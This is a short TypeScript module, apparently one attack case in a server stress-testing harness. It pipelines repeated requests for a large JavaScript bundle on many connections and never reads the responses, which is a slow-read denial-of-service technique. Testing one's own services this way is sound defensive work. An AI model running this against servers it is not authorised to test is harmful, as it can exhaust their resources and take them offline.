import { type Attack, answeredRequest, silentReaders } from './target.ts';

/** Asks for as many large pages as a connection may have under way, and reads nothing. */
export const run: Attack = async (target, signal, connections) => {
  const requests = (await answeredRequest(target, '/docs/swagger-ui-bundle.js')).repeat(4);
  return silentReaders(target, signal, connections, Buffer.from(requests), false);
};
